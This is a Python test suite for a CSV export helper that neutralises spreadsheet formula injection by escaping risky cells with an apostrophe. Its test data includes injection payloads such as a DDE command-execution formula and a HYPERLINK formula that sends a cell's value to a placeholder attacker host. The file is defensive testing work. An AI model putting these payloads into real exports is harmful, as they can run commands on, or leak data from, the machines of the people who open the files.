"""No cell of an export is a formula to a spreadsheet, and every cell is what it was."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.csv_cells import FORMULA, cell

SHARED = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ttab", "\rreturn", "\nfeed", "＝1+1", "＋1", "－1", "＠SUM",
    " =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", "\u2028=1", "−1", "﹢1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1)',
])  # fmt: skip
def test_what_a_spreadsheet_takes_for_a_formula_is_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(("value", "text"), [
    (None, ""), (True, "true"), (False, "false"), (-3, "-3"), (2.5, "2.5"), ("", ""), ("Ada", "Ada"), ("a=b", "a=b"),
    ("ada@contoso.example", "ada@contoso.example"), (["a", 1], '["a",1]'), ({"a": None}, '{"a":null}'), ("   ", "   "),
    ("'=1", "'=1"),
])  # fmt: skip
def test_everything_else_is_what_it_was(value: object, text: str) -> None:
    assert cell(value) == text


@given(st.lists(st.text(), min_size=1))
def test_what_is_read_back_is_each_text_or_the_text_behind_an_apostrophe(texts: list[str]) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(text) for text in texts])
    (row,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert all(found in (text, f"'{text}") for found, text in zip(row, texts, strict=True))
    assert all(found.strip()[:1] not in FORMULA for found in row if found.strip())


def test_there_is_one_rule_for_every_table_that_is_exported() -> None:
    for folder in ("api", "activities", "shared"):
        for path in (SHARED / folder).rglob("*.py"):
            text = path.read_text()
            if "csv.writer(" in text:
                assert "from shared.csv_cells import cell" in text, path
                assert re.search(r"\bcell\(", text), path
